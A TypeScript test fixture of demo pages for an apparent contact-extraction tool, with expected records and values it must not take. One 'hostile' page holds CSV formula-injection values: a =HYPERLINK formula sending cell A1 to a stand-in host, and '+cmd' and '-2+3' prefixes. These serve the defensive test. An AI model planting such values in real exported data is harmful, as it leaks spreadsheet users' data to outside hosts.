import { type DemoPage, demoPerson, demoRecord, phone, registered } from '../demo-page';

/** Pages that try a reader's patience: nothing to take, a selection, hostile content, an application. */
export const specialPages: DemoPage[] = [
  {
    url: 'http://cafe-blog.test/',
    title: 'Jak jsem 30 dní vážila espresso na desetinu gramu – Kavárenský zápisník',
    view: 'nothing',
    language: 'cs',
    featured: true,
    records: [],
    mustNotTake: ['601 000 020', '541 000', '10118-2043-7', 'Mirek T.', 'Lucie'],
  },
  {
    url: 'http://cafe-blog.test/podpis/',
    title: 'Jak si pekárna objednala kávovar – Kavárenský zápisník',
    view: 'selection',
    language: 'cs',
    selection: '#podpis',
    featured: true,
    records: [
      demoRecord('person', 'Ing. Radim Koutný', {
        jobTitle: 'vedoucí nákupu',
        organization: 'Pekárny Oslavka, a.s.',
        phones: [phone('+420546000031', 'landline'), phone('+420604000032', 'mobile')],
        emails: ['radim.koutny@pekarny-oslavka.test'],
        website: 'http://www.pekarny-oslavka.test/',
        address: {
          street: 'Dlouhá 214/7',
          locality: 'Oslavany',
          postalCode: '664 12',
          country: 'CZ',
        },
        registrationNumbers: [registered('CZ-ICO', '39712044')],
      }),
    ],
    mustNotTake: ['240 000'],
  },
  {
    url: 'http://hostile-demo.test/',
    title: '=HYPERLINK("…") Trnka s.r.o. – kontakt',
    view: 'organization',
    language: 'cs',
    featured: true,
    records: [
      demoRecord(
        'organization',
        '=HYPERLINK("http://sber-demo.test/?x="&A1;"Bonus") Trnka s.r.o.',
        {
          phones: [phone('+493023125040', 'landline'), phone('+420604000213', 'mobile')],
          emails: ['+cmd@hostile-demo.test'],
          website: 'http://www.trnka-web.test/',
          address: {
            street: '-2+3 Křivá 13',
            locality: 'Břeclav',
            postalCode: '690 02',
            country: 'CZ',
          },
          registrationNumbers: [registered('CZ-ICO', '39723054')],
          people: [demoPerson('Karel Novosad', 'jednatel')],
        },
      ),
    ],
    mustNotTake: [
      '+420 541 000 666',
      '+420 541 000 667',
      'Hluboko zanořená a.s.',
      'javascript:',
      'polluted',
      'Nedopsaná',
    ],
  },
  {
    url: 'http://spa-demo.test/supplier/alder-court/',
    title: 'Alder Court Packaging Ltd – Tradebook Demo',
    view: 'organization',
    language: 'en',
    featured: true,
    records: [
      demoRecord('organization', 'Alder Court Packaging Ltd', {
        phones: [phone('+441174960040', 'landline')],
        emails: ['orders@aldercourt.test'],
        website: 'http://aldercourt.test/',
        address: {
          street: '21 Alder Court',
          locality: 'Bristol',
          postalCode: 'BS4 3QZ',
          country: 'GB',
        },
        people: [demoPerson('Gwen Talbot-Marsh', 'Operations Director')],
      }),
    ],
    mustNotTake: ['support@spa-demo.test'],
  },
  {
    url: 'http://spa-demo.test/supplier/brightwater/',
    title: 'Brightwater Seals & Gaskets LLP – Tradebook Demo',
    view: 'organization',
    language: 'en',
    featured: true,
    records: [
      demoRecord('organization', 'Brightwater Seals & Gaskets LLP', {
        phones: [phone('+442079460111', 'landline')],
        emails: ['hello@brightwater-seals.test'],
        website: 'http://brightwater-seals.test/',
        address: {
          street: '8 Kiln Lane',
          locality: 'London',
          postalCode: 'SE8 4RX',
          country: 'GB',
        },
        people: [demoPerson('Desmond Achterberg', 'Purchasing Manager')],
      }),
    ],
    mustNotTake: ['support@spa-demo.test'],
  },
];
